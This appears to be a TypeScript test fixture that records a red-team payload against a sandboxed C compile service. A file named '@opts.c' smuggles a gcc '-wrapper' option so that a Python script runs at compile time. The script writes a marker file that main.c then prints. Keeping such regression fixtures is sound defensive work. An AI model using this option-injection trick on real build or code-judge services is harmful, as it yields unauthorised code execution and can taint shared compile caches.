/**
 * The red-team payload of 2026-11-29 (M1): "@opts.c" made gcc read opts.c as options, and
 * "-wrapper" ran the user's Python around cc1 and collect2 at compile time; the result went to
 * the compile cache. `main.c` prints what the wrapper left in the box.
 */
export const M1_PAYLOAD = {
  language: 'c',
  mainFile: 'main.c',
  files: [
    {
      name: 'main.c',
      content:
        '#include <stdio.h>\nint main(){FILE*f=fopen("PWNED_AT_COMPILE","r");char b[300]={0};if(f)fread(b,1,299,f);printf("written during compile: %s\\n",f?b:"none");}\n',
    },
    { name: '@opts.c', content: 'unused\n' },
    { name: 'opts.c', content: '-wrapper /usr/bin/python3,/box/w.py\n' },
    {
      name: 'w.py',
      content:
        "import os,sys\nopen('/box/PWNED_AT_COMPILE','a').write(os.path.basename(sys.argv[1])+' uid='+str(os.getuid())+'; ')\na=['/dev/null' if x=='opts.c' else x for x in sys.argv[1:]]\nos.execv(a[0],a)\n",
    },
  ],
};
